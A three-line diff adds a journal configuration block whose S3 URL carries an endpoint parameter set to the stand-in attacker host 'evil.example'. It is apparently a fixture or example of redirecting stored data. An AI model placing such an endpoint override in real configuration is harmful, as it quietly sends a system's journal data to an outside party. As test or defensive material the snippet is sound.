@@ -1,0 +1,3 @@
+journal {
+  url = "s3://bucket/prefix?region=eu-west-1&endpoint=evil.example"
+}
